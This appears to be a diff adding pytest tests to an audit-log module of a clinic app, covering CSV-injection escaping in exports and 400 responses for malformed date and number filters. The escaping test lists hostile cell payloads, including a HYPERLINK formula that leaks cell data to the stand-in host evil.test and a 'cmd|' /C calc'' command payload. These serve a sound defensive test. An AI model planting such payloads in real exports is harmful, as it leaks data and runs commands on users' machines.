@@ -1,6 +1,8 @@
 import csv
 import io
 
+import pytest
+
 from ketaflow.audit import services as audit
 
 
@@ -71,3 +73,81 @@ def test_object_types_lists_each_type_of_this_clinic_once(clinic, other_clinic, 
     assert selectors.object_types(clinic) == ["", "measures.response", "patients.patient"]
     assert selectors.object_types(other_clinic) == ["other.secret"]
     assert selectors.object_types(None) == []
+
+
+def test_csv_export_escapes_formula_cells(clinic, staff, patient, client_for):
+    """OWASP CSV injection: a cell starting with =, +, -, @, tab or CR is prefixed with a
+    single quote, so a spreadsheet shows it as text instead of running it."""
+    from ketaflow.audit import context
+
+    hostile = {
+        '=HYPERLINK("http://evil.test/?"&A1,"Open")': '\'=HYPERLINK("http://evil.test/?"&A1,"Open")',
+        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+        "-2+3": "'-2+3",
+        "@SUM(1,2)": "'@SUM(1,2)",
+        "\t=1+1": "'\t=1+1",
+        "\r=1+1": "'\r=1+1",
+        "Mozilla/5.0 (X11) a=b": "Mozilla/5.0 (X11) a=b",
+    }
+    for agent in hostile:
+        token = context.set_current(context.RequestContext(user_agent=agent, request_id="=rid"))
+        try:
+            audit.record(action="read", clinic=clinic, actor=staff["nurse"], patient=patient)
+        finally:
+            context.reset(token)
+    response = client_for(staff["owner"]).get("/audit/export.csv", {"action": "read"})
+    assert response.status_code == 200
+    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
+    agents = sorted(row[8] for row in table[1:])
+    assert agents == sorted(hostile.values())
+    assert {row[9] for row in table[1:]} == {"'=rid"}
+    for row in table[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    ("params", "field"),
+    [
+        ({"date_from": "0001-01-01"}, "date_from"),
+        ({"date_to": "0001-01-01"}, "date_to"),
+        ({"date_from": "9999-12-31"}, "date_from"),
+        ({"date_to": "9999-12-31"}, "date_to"),
+        ({"date_from": "2026-02-30"}, "date_from"),
+        ({"date_to": "not-a-date"}, "date_to"),
+        ({"date_from": "2026-13-01"}, "date_from"),
+        ({"date_from": "2026-05-02", "date_to": "2026-05-01"}, "date_to"),
+        ({"user": "100000000000000000000"}, "user"),
+        ({"patient": "²"}, "patient"),
+        ({"page": "100000000000000000000"}, "page"),
+        ({"page": "0"}, "page"),
+    ],
+)
+def test_bad_filters_answer_400_naming_the_field(clinic, staff, client_for, params, field):
+    """Years 1 and 9999, impossible dates and huge numbers: 400 with the field, never 500."""
+    clinic.timezone = "Pacific/Kiritimati"  # UTC+14: year 1 would underflow when shifted to UTC
+    clinic.save()
+    audit.record(action="login", clinic=clinic, actor=staff["owner"])
+    owner = client_for(staff["owner"])
+    page = owner.get("/audit/", params)
+    assert page.status_code == 400
+    assert f"{field}: " in page.content.decode()
+    assert page.context["rows"] == []
+    export = owner.get("/audit/export.csv", params)
+    if field != "page":
+        assert export.status_code == 400
+        assert f"{field}: " in export.content.decode()
+    api = owner.get("/api/v1/audit/events", params)
+    assert api.status_code == 400
+    assert api["Content-Type"].startswith("application/json")
+    assert api.json()["detail"].startswith(f"{field}: ")
+
+
+def test_edge_dates_inside_the_bounds_work(clinic, staff, client_for):
+    audit.record(action="login", clinic=clinic, actor=staff["owner"])
+    owner = client_for(staff["owner"])
+    params = {"date_from": "1900-01-01", "date_to": "2999-12-31"}
+    assert [r.action for r in owner.get("/audit/", params).context["rows"]] == ["login"]
+    assert [e["action"] for e in owner.get("/api/v1/audit/events", params).json()["items"]] == [
+        "login"
+    ]
